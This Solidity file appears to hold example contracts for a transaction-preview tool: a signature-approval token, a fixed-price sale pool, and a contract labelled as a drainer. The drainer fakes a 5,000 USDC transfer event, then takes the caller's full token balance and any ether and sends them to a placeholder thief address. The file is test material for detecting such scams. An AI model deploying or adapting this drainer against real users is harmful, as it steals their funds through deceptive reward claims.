// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// What the examples of the preview call. They stand at the addresses that examples.ts names; nothing is checked that an
// example does not need.

interface IToken {
    function balanceOf(address owner) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

IToken constant PLUMB = IToken(0x7e57c0dE00000000000000000000000000007E57);
IToken constant GOLD = IToken(0x601D000000000000000000000000000000000001);

/// A plain token with approvals by signature (EIP-2612). Storage: balances at slot 0.
contract Gold {
    mapping(address => uint256) public balanceOf;
    string public constant symbol = "GOLD";
    uint8 public constant decimals = 18;

    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) public nonces;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        bytes32 domain = keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)");
        return keccak256(abi.encode(domain, keccak256("Gold"), keccak256("1"), block.chainid, address(this)));
    }

    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external
    {
        require(block.timestamp <= deadline, "expired");
        bytes32 t = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 message = keccak256(abi.encode(t, owner, spender, value, nonces[owner]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked(hex"1901", DOMAIN_SEPARATOR(), message)), v, r, s);
        require(signer != address(0) && signer == owner, "signature");
        allowance[owner][spender] = value;
        emit Approval(owner, spender, value);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }
}

/// Sells GOLD at fixed prices: 3 for an ether, 1 for 2 PLUMB.
contract Pool {
    event Sold(address indexed buyer, uint256 bought);

    error TooLittle(uint256 bought, uint256 wanted);

    function buy(uint256 wanted) external payable {
        sell(msg.value * 3, wanted);
    }

    function swap(uint256 amount, uint256 wanted) external {
        PLUMB.transferFrom(msg.sender, address(this), amount);
        sell(amount / 2, wanted);
    }

    function sell(uint256 bought, uint256 wanted) private {
        if (bought < wanted) revert TooLittle(bought, wanted);
        GOLD.transfer(msg.sender, bought);
        emit Sold(msg.sender, bought);
    }
}

/// A drainer. It says that the caller gets 5 000 USDC, gives nothing, and takes what it may.
contract Reward {
    string public constant symbol = "USDC";
    uint8 public constant decimals = 6;
    address payable constant THIEF = payable(0x00000000000000000000000000000baD00000Bad);

    event Transfer(address indexed from, address indexed to, uint256 value);

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function claim() external payable {
        emit Transfer(address(0), msg.sender, 5000e6);
        PLUMB.transferFrom(msg.sender, THIEF, PLUMB.balanceOf(msg.sender));
        THIEF.transfer(msg.value);
    }
}
